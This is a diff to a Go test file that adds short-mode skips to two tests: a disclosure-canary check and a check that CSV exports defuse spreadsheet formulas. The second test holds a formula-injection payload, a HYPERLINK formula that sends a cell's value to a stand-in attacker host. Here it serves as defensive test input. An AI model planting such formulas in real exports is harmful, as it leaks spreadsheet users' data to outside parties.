@@ -99,6 +99,9 @@ func texts(t *testing.T, d download) map[string]string {
 // may carry an individual survey answer, the proposer of the anonymous
 // topic, or the author of a feedback row beside it.
 func TestDisclosureCanary(t *testing.T) {
+	if testing.Short() {
+		t.Skip("a walk over every page or export; it runs in full without -short (CI's race pass uses -short)")
+	}
 	e := newEnv(t, sqltest.SQLite(t))
 	c1 := e.ids["c1"]
 	who := collab.Who{}
@@ -174,6 +177,9 @@ func TestDisclosureCanary(t *testing.T) {
 // with an apostrophe before it, never as a formula. Plain negative
 // numbers stay numbers (internal/csvout).
 func TestCSVExportsDefuseFormulas(t *testing.T) {
+	if testing.Short() {
+		t.Skip("a walk over every page or export; it runs in full without -short (CI's race pass uses -short)")
+	}
 	e := newEnv(t, sqltest.SQLite(t))
 	c1 := e.ids["c1"]
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
